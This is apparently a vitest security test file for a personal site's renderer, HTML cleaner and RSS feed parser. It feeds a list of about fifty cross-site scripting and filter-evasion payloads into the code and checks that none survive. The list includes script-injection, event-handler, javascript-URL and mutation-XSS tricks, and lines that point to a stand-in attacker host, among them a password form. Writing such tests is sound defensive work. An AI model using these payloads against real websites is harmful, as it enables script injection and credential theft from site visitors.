import sanitizeHtml from 'sanitize-html'
import { afterAll, expect, it } from 'vitest'
import type { Article } from '#content/newsletter/article.ts'
import { parseFeedDocument } from '#server/feed/parse-feed.ts'
import { renderPage } from '#site/render.tsx'
import { cleanHtml } from '#site/rendering/clean-html.ts'
import { openTestBackend, SITE_URL } from '#tests/support/backend.ts'
import { rss } from '#tests/support/feed-server.ts'
import { Trial } from '#tests/support/trial.ts'

/* What the server renders. tests/e2e/hostile-content.test.ts tests what a browser makes of the same texts. */

const trial = new Trial('nobody gets in', 'hostile texts in content and feed')
afterAll(() => trial.print())

const MARK = 'window.hacked=1'
const HOSTILE = [
  `<script>${MARK}</script>`,
  `</script><script>${MARK}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<script/x>${MARK}</script\t\n bar>`,
  `<<script>${MARK}//<</script>`,
  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `<img src=x onerror=${MARK}>`,
  `<img/src=x/onerror=${MARK}>`,
  `<IMG SRC="jav&#x09;ascript:${MARK}">`,
  `<svg onload=${MARK}>`,
  `<svg><script>${MARK}</script></svg>`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${MARK}></style></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${MARK}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<body onload=${MARK}>`,
  `<details open ontoggle=${MARK}>`,
  `<input autofocus onfocus=${MARK}>`,
  `<iframe src="javascript:${MARK}"></iframe>`,
  `<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
  `<object data="javascript:${MARK}"></object>`,
  `<embed src="javascript:${MARK}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<form action="https://evil.example"><input name=password></form>`,
  `<p style="background:url(https://evil.example/x)" onclick="${MARK}">styled</p>`,
  `<a href="javascript:${MARK}">x</a>`,
  `<a href="JaVaScRiPt:${MARK}">x</a>`,
  `<a href=" javascript:${MARK}">x</a>`,
  `<a href="java\tscript:${MARK}">x</a>`,
  `<a href="java&#10;script:${MARK}">x</a>`,
  `<a href="&#106;avascript:${MARK}">x</a>`,
  `<a href="javascript&colon;${MARK}">x</a>`,
  `<a href="\u0001javascript:${MARK}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${MARK}</script>">x</a>`,
  `<a href="blob:https://evil.example/1">x</a>`,
  `<a href="//evil.example/x">x</a>`,
  `<a href="https://ok.example" onmouseover="${MARK}">x</a>`,
  `<a href="https://ok.example" target="_blank" rel="opener">x</a>`,
  `<p><!--<img src="--><img src=x onerror=${MARK}>-->`,
  `<![CDATA[<img src=x onerror=${MARK}>]]>`,
  `<xmp><script>${MARK}</script></xmp>`,
  `<template><script>${MARK}</script></template>`,
  `<p title="x" id="boot" name="contact">clobbers</p>`,
  `\u2028</script>\u2029<!--<script>`,
  `&lt;script&gt;${MARK}&lt;/script&gt;`,
  `"><img src=x onerror=${MARK}>`,
  `'-${MARK}-'`,
  `\${${MARK}}{{${MARK}}}`,
]

interface Element {
  name: string
  attributes: Record<string, string>
}

/** Every element of an HTML text, as a parser reads it. */
function elementsOf(html: string): Element[] {
  const elements: Element[] = []
  sanitizeHtml(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    // a copy, because the sanitizer goes on to remove what it would not keep
    onOpenTag: (name, attributes) => elements.push({ name, attributes: { ...attributes } }),
  })
  return elements
}

/** Browsers ignore spaces and control characters in and before a scheme. */
const isScriptAddress = (value: string) =>
  /^(?:javascript|vbscript|data|blob):/i.test(value.replaceAll(/[\s\p{Cc}]/gu, ''))
const describeElement = ({ name, attributes }: Element) => `<${name} ${JSON.stringify(attributes)}>`

/** Elements of the page that could run something, or that are not ours. */
function dangersIn(html: string): string[] {
  return elementsOf(html)
    .filter(({ name, attributes }) => {
      const { type = '', src } = attributes
      const isOurs = src ? src.startsWith('/assets/') : /^application\/(?:ld\+)?json$/.test(type)
      const runs = Object.keys(attributes).some((attribute) => attribute.startsWith('on'))
      const leads = ['href', 'action', 'formaction'].some((attribute) => isScriptAddress(attributes[attribute] ?? ''))
      const isForeign = ['iframe', 'object', 'embed', 'base', 'style', 'math'].includes(name)
      return (name === 'script' && !isOurs) || runs || leads || isForeign || attributes['http-equiv'] === 'refresh'
    })
    .map(describeElement)
}

it('sees what is dangerous, so that the rest passes for the right reason', () => {
  for (const html of ['<script>x</script>', '<img src=x onerror=x>', '<a href="java\tscript:x">', '<base href=x>'])
    expect(dangersIn(`<p>${html}</p>`)).toHaveLength(1)
})

it('leaves of rich text only what an editor writes', () => {
  const ALLOWED = ['p', 'br', 'strong', 'b', 'em', 'i', 'u', 's', 'a', 'ul', 'ol', 'li', 'blockquote']
  for (const html of HOSTILE) {
    const elements = elementsOf(cleanHtml(`<p>before</p>${html}`))
    const bad = elements.filter(({ name, attributes }) => {
      const isLink = attributes.href === undefined || /^(?:https?:|mailto:|\/(?!\/)|#)/.test(attributes.href)
      const isPlain = Object.keys(attributes).every((key) => name === 'a' && ['href', 'target', 'rel'].includes(key))
      return !ALLOWED.includes(name) || !isPlain || !isLink
    })
    trial.record(`rich text ${html} leaves ${bad.map(describeElement)}`, bad.length === 0)
  }
  expect(trial.failures).toEqual([])
})

it('renders pages in which no text of the content runs, and whose JSON stays JSON', async () => {
  const backend = await openTestBackend()
  const environment = {
    siteUrl: SITE_URL,
    api: { url: '', key: backend.keys.publishable },
    assets: { css: ['/assets/main.css'], modules: ['/assets/main.js'] },
    fetch: ((input, init) => backend.fetch(new Request(input, init))) as typeof fetch,
    pressKit: async () => ({ size: null, tables: [] }),
  }
  for (const text of HOSTILE) {
    const rows: Record<string, Record<string, unknown>> = {
      hero: { title: text, subtitle: text, description: text, image_url: text },
      contact: { title: text, description: text, email: text, linkedin_url: text, substack_url: text },
      newsletter: { title: text },
      press_kit: { short_bio: text, medium_bio: text, full_bio: text, photo_url: text },
      story_section_config: { title: text },
      skin_in_game: { description: text },
      talks_description: { description: text },
      stories: { title: text, content: text, image_url: text, image_alt: text, image_caption: text },
      expertise: { title: text.slice(0, 99), description: text },
      talks: { title: text, location: text, description: text, date: '2024-01-05', type: 'talk', action_url: text },
      involvements: { company: text, role: text, period: text, description: text, type: 'board', logo_url: text },
    }
    backend.database.transaction(() => {
      for (const [table, row] of Object.entries(rows)) {
        backend.database.run(`delete from "${table}"`)
        backend.insertRows(table, [row])
      }
    })
    const withArticles = { ...environment, articles: async () => hostileArticles(text) }
    for (const path of ['/', '/press-kit']) {
      const { html } = await renderPage(path, withArticles)
      const dangers = dangersIn(html)
      trial.record(`${path} with ${text} has ${dangers}`, dangers.length === 0)
      for (const json of html.matchAll(/<script[^>]*type="application\/(?:ld\+)?json"[^>]*>(.*?)<\/script>/gs)) {
        const isWhole = !/[<\u2028\u2029]/.test(json[1]!) && isJson(json[1]!)
        trial.record(`the JSON of ${path} with ${text}`, isWhole)
      }
    }
  }
  backend.dispose()
  expect(trial.failures).toEqual([])
})

it('takes web addresses from a feed, and nothing else', () => {
  for (const text of HOSTILE)
    for (const { link, imageUrl } of hostileArticles(text)) {
      const isWeb = [link, imageUrl].every((address) => address === null || /^https?:\/\//.test(address))
      trial.record(`a feed with ${text} leads to ${link} and ${imageUrl}`, isWeb)
    }
  expect(trial.failures).toEqual([])
})

/** The articles of a feed that has this text wherever a text may be. */
function hostileArticles(text: string): Article[] {
  const xml = text
    .replaceAll('\u0001', '') // XML allows no control characters

    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
  const texts = `<title>${xml}</title><description>${xml}</description><dc:creator>${xml}</dc:creator>`
  const item = (link: string) =>
    `<item>${texts}<link>${link}</link><enclosure url="${xml.replaceAll('"', '&quot;')}" type="image/png"/></item>`
  const feed = rss(item('https://letters.example/p') + item(`javascript:${MARK}`) + item(xml))
  return parseFeedDocument(feed, 'https://letters.example').articles
}

function isJson(text: string): boolean {
  try {
    JSON.parse(text)
    return true
  } catch {
    return false
  }
}
